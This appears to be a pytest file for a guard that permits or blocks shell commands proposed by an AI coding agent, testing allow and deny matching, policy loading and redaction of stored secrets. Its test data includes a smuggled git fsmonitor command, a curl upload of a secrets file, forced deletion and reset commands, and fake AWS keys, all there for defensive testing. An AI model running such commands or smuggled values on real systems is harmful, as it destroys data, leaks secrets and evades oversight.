"""What is trusted goes by what is plainly written; what restricts also catches what is not."""

import pytest

from interlock.config.bundles import bundle_of
from interlock.errors import InterlockError
from interlock.judging.guard import Guard
from interlock.receipts.ledger import Ledger, StatePlan
from interlock.service import answer, handle
from interlock.store.memory import MemoryStore
from interlock.store.sqlite import SqliteStore
from interlock.testing.events import payload_for
from interlock.testing.pretend import Pretend
from tests.policy.builders import Session, complaints, load

ALLOW = "rules: [{id: a, command: [git push --dry-run, git status, cargo test], allow: true}]"


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("cargo test --all", "allow"),
        ("git status", "allow"),
        ("git push --dry-run origin main", "allow"),
        ("./cargo test", None),
        ("/tmp/e/cargo test", None),
        ('git -c "core.fsmonitor=touch x" status', None),
        ("git -C elsewhere status", None),
        ("git push -o --dry-run origin main", None),
    ],
)
def test_an_allow_holds_for_commands_as_plainly_as_it_names_them(line, decision):
    assert Session(ALLOW).call(line).decision == decision


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("git push", "git --no-pager -c a=b push origin"),
        ("git push", "git --git-dir x push"),
        ("docker run", "docker -l debug run x"),
        ("git reset --hard", "git reset --har HEAD"),
        ("curl -d", "curl -d@secrets x.org"),
        ("git clean -f", "git clean -fde1"),
        ("rm -rf", "/bin/rm -r -f x"),
    ],
)
def test_a_deny_catches_a_command_however_its_options_are_written(pattern, line):
    assert Session(f"rules: [{{id: d, command: {pattern}, deny: stop}}]").call(line).decision == "deny"


@pytest.mark.parametrize("value", ["null", "[null]", "[[a], b]", "{a: 1}"])
def test_a_constant_that_is_no_text_is_refused_in_a_pattern(value):
    found = complaints(f"let: {{l: {value}}}\nrules:\n  - {{id: a, command: '${{l}}', allow: true}}\n")
    assert found


@pytest.mark.parametrize("pattern", ["git pus*", "npm*", "/usr/bin/git push", 'git commit -m "x y"'])
def test_a_command_pattern_that_could_match_nothing_is_refused(pattern):
    assert complaints(f"rules:\n  - {{id: a, command: '{pattern}', deny: stop}}\n")


def test_a_failing_call_that_has_nothing_to_do_with_a_variable_leaves_it_known():
    session = Session("""
        state: {tested: false}
        rules:
          - {id: ran, event: PostToolUse, command: npm test, set: {tested: true}}
          - {id: need, command: git push, when: "!state.tested", deny: Run the tests first.}
    """)
    session.call("npm test")
    session.result("npm test", {"stdout": "ok"})
    session.event("PreToolUse", tool_name="Read", tool_input={"file_path": "x"}, tool_use_id="t9")
    session.event("PostToolUseFailure", tool_name="Read", tool_input={"file_path": "x"}, tool_use_id="t9", error="no")
    assert session.call("git push").decision is None


def test_one_policy_may_serve_two_guards():
    policy = load("""
        state: {n: 0}
        rules:
          - {id: limit, tool: Bash, when: state.n >= 1, deny: enough}
          - {id: up, tool: Bash, set: {n: "${state.n + 1}"}}
    """)
    first = Guard([policy], Pretend(), MemoryStore(), run_hooks=False)
    Guard([load("rules: []"), policy], Pretend(), MemoryStore(), run_hooks=False)

    def call(number: int) -> str | None:
        raw = payload_for("PreToolUse", {}, tool_name="Bash", tool_input={"command": "ls"}, tool_use_id=f"t{number}")
        return answer(first, "claude-code", raw).verdict.decision

    assert [call(1), call(2)] == [None, "deny"]


def test_a_secret_that_is_remembered_is_redacted_on_the_disk(tmp_path):
    policy = load("state: {last: ''}\nrules:\n  - {id: s, tool: Bash, set: {last: '${input.command}'}}\n")
    store = SqliteStore(tmp_path / "store" / "a.db")
    with Guard([policy], Pretend(), store, run_hooks=False) as guard:
        given = {"command": "echo \"password='abcd1234efgh'\" AKIAQWERTYUIOPASDFGH"}
        answer(guard, "claude-code", payload_for("PreToolUse", {}, tool_name="Bash", tool_input=given, tool_use_id="t"))
    store.close()
    kept = b"".join(file.read_bytes() for file in (tmp_path / "store").iterdir())
    assert b"AKIAQWERTYUIOPASDFGH" not in kept
    assert b"abcd1234efgh" not in kept


def test_programs_beside_the_policy_are_part_of_what_is_trusted(tmp_path):
    (tmp_path / "check.sh").write_text("exit 0\n", encoding="utf-8")
    file = tmp_path / "interlock.yaml"
    file.write_text(
        "version: 1\nhooks: [{run: ./check.sh}]\nrules:\n  - {id: r, tool: Bash, run: ./check.sh, deny: x}\n",
        encoding="utf-8",
    )
    assert str(tmp_path / "check.sh") in bundle_of(file).files


def test_a_project_whose_name_looks_like_a_pattern_is_no_pattern():
    from interlock.facts.paths import Places, glob_regex
    from interlock.policy.names import regex

    places = Places("/w/app[1]", "/w/app[1]", "/home/dev")
    inside = regex(glob_regex("${project}/**", places))
    assert inside("/w/app[1]/f")
    assert not inside("/w/app1/f")
    assert regex(glob_regex("src/", places))("/w/app[1]/src/a")


def test_a_pack_and_the_policy_that_uses_it_do_not_share_a_variable(tmp_path):
    (tmp_path / "p.yaml").write_text("version: 1\nstate: {n: 0}\n", encoding="utf-8")
    file = tmp_path / "interlock.yaml"
    file.write_text("version: 1\npacks: [./p.yaml]\nstate: {n: ''}\n", encoding="utf-8")
    with pytest.raises(InterlockError, match="has a variable `n` of its own"):
        bundle_of(file)


class Failing:
    """A panel with a bug."""

    def ask(self, asked, round_):
        raise RuntimeError("boom")


def test_events_that_fail_or_cannot_be_read_are_recorded_too():
    store = MemoryStore()
    keeping = Ledger(store, StatePlan())
    raw = payload_for("PreToolUse", {}, tool_name="Bash", tool_input={"command": "ls"}, tool_use_id="t")
    handle("claude-code", raw, Failing(), memory=keeping)
    handle("claude-code", b"garbage AKIAQWERTYUIOPASDFGH", Failing(), memory=keeping)
    records = list(store.records())
    assert [(record.event, record.decision) for record in records] == [("PreToolUse", "deny"), (None, "deny")]
    assert records[0].record["errors"] == ["Interlock itself failed: RuntimeError: boom"]
    assert b"AKIAQWERTYUIOPASDFGH" not in records[1].raw


def test_a_failure_that_cannot_even_be_recorded_is_said():
    store = MemoryStore()
    store.close()
    raw = payload_for("Stop", {}, stop_hook_active=False)
    reply = handle("claude-code", raw, Failing(), memory=Ledger(store, StatePlan()))
    assert b"Interlock itself failed" in reply.stdout
    assert reply.stderr == "and it could not be recorded: StoreError"
